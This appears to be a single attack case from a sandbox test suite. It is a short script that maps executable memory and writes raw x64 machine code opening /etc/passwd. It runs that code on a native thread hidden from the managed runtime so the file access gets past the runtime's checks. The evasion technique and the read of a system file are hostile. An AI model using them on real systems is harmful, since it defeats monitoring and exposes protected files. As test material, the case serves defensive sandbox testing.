// attack: Reads a file from a thread the runtime knows nothing of.
// group: threads
// at none: gets-through
// uses: native
// needs: x64

// A function in machine code: mov rdi,path; xor esi,esi; mov eax,2; syscall; ret. Its answer is the thread's.
var path = Native.Text("/etc/passwd");
var code = Native.Call(9, 0, 4096, 7, 0x22, -1, 0);
byte[] body = [0x48, 0xBF, .. BitConverter.GetBytes(path), 0x31, 0xF6, 0xB8, 2, 0, 0, 0, 0x0F, 0x05, 0xC3];
Marshal.Copy(body, 0, (nint)code, body.Length);
var (thread, answer) = (Native.Zeros(8), Native.Zeros(8));
var made = Native.Invoke("pthread_create", thread, 0, code, 0);
Native.Invoke("pthread_join", Native.Word(thread), answer);
(int)made == 0 ? Native.Read(Native.Word(answer)) : null
